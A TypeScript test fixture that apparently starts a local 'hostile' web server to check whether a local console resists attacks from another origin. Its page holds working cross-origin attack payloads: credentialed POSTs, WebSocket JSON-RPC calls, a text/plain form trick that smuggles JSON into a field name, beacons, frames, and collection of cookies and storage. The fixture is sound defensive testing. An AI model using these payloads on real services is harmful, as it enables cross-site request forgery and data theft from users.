// A web server on another port of this host. It keeps everything that a browser sends, and its page tries to open the console.
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface HostileServer {
  readonly port: number;
  /** Header lines of every request, and whatever its page found, as text. */
  readonly got: () => string;
  readonly cookies: () => readonly string[];
  /** Makes every further answer set this cookie. */
  readonly setsCookie: (cookie: string) => void;
  readonly close: () => Promise<void>;
}

/** The server's page: `tryAll(console)` tries every way that a page of another origin has, and resolves with what came of each. */
const PAGE = `<!doctype html><html><body><script>
const said = (what) => Promise.resolve().then(what).then((text) => String(text), (error) => 'refused: ' + error.name);
const post = (url, init) => said(async () => (await fetch(url, { method: 'POST', credentials: 'include', ...init })).text());
const stream = (url, protocols) => new Promise((resolve) => {
  const socket = new WebSocket(url, protocols);
  socket.onopen = () => socket.send('{"jsonrpc":"2.0","id":1,"method":"holds.list"}');
  socket.onmessage = (event) => resolve(event.data);
  socket.onclose = (event) => resolve('closed ' + event.code);
});
const frame = (url) => new Promise((resolve) => {
  const made = document.createElement('iframe');
  made.onload = () => resolve(said(() => made.contentDocument === null ? 'no document' : made.contentDocument.body.innerText));
  made.src = url;
  document.body.append(made);
});
const script = (url) => new Promise((resolve) => {
  const made = document.createElement('script');
  made.onload = () => resolve('loaded');
  made.onerror = () => resolve('refused');
  made.src = url;
  document.head.append(made);
});
const settled = async (what) => {
  await new Promise((resolve) => setTimeout(resolve, 300));
  return what();
};
const form = (url, text) => {
  const name = 'f' + Math.random();
  const target = document.createElement('iframe');
  target.name = name;
  document.body.append(target);
  const made = document.createElement('form');
  Object.assign(made, { method: 'POST', enctype: 'text/plain', action: url, target: name });
  const field = document.createElement('input');
  // A form sends NAME=VALUE: the sign goes into a member that nobody reads.
  field.name = text.slice(0, -1) + ',"x":"';
  field.value = '"}';
  made.append(field);
  document.body.append(made);
  const answered = new Promise((resolve) => (target.onload = () => resolve(said(() => String(target.contentDocument?.body.innerText)))));
  made.submit();
  return Promise.race([answered, settled(() => 'nothing')]);
};
const image = (url) => new Promise((resolve) => {
  const made = new Image();
  made.onload = () => resolve('loaded');
  made.onerror = () => resolve('refused');
  made.src = url;
});
const source = (url) => new Promise((resolve) => {
  const made = new EventSource(url, { withCredentials: true });
  made.onmessage = (event) => resolve(event.data);
  made.onopen = () => resolve('open');
  made.onerror = () => (made.close(), resolve('refused'));
});
const heard = [];
addEventListener('message', (event) => heard.push(String(event.data)));
async function tryAll(origin) {
  const call = '{"jsonrpc":"2.0","id":1,"method":"messages.list","params":{}}';
  const socket = origin.replace('http', 'ws') + '/stream';
  const found = {
    cookie: document.cookie,
    opener: String(window.opener),
    stored: JSON.stringify(localStorage) + JSON.stringify(await indexedDB.databases()),
    rpc: await post(origin + '/rpc', { body: call }),
    blind: await post(origin + '/rpc', { body: call, mode: 'no-cors' }),
    challenge: await post(origin + '/challenge'),
    enter: await post(origin + '/enter', { body: '{"code":"x"}' }),
    stream: await stream(socket),
    page: await stream(socket, ['sidelight.page', 'proof.x.1.2.3']),
    frame: await frame(origin + '/'),
    script: await script(origin + '/open'),
    heard: heard.join(),
  };
  await fetch('/found', { method: 'POST', body: JSON.stringify(found) });
  return found;
}
async function tryMore(origin, act) {
  const worker = await navigator.serviceWorker.register('/worker.js', { scope: '/' });
  const found = {
    form: await form(origin + '/rpc', act),
    enter: await form(origin + '/enter', '{"code":"x"}'),
    agent: await form(origin + '/mcp', act),
    beacon: await said(() => settled(() => String(navigator.sendBeacon(origin + '/rpc', act)))),
    image: await image(origin + '/open?key=x'),
    source: await source(origin + '/stream'),
    shared: await said(() => new SharedWorker(origin + '/assets/x.js').port),
    module: await said(() => import(origin + '/rpc')),
    worker: String(worker.scope.startsWith(location.origin)),
  };
  await worker.unregister();
  return found;
}
</script></body></html>`;

export async function startHostileServer(): Promise<HostileServer> {
  const got: string[] = [];
  const cookies: string[] = [];
  const toss: string[] = [];
  const server = createServer((request, response) => {
    const headers: IncomingHttpHeaders = request.headers;
    got.push(`${request.method} ${request.url} ${JSON.stringify(headers)}`);
    if (headers.cookie !== undefined) cookies.push(...headers.cookie.split(/; */));
    request.on('data', (part: Buffer) => got.push(part.toString('utf8')));
    request.on('end', () => {
      const isWorker = request.url === '/worker.js';
      response.setHeader('Content-Type', isWorker ? 'text/javascript' : 'text/html');
      for (const cookie of toss) response.appendHeader('Set-Cookie', cookie);
      response.end(isWorker ? 'addEventListener("fetch", () => undefined);' : PAGE);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    got: () => got.join('\n'),
    cookies: () => cookies,
    setsCookie: (cookie) => void toss.push(cookie),
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
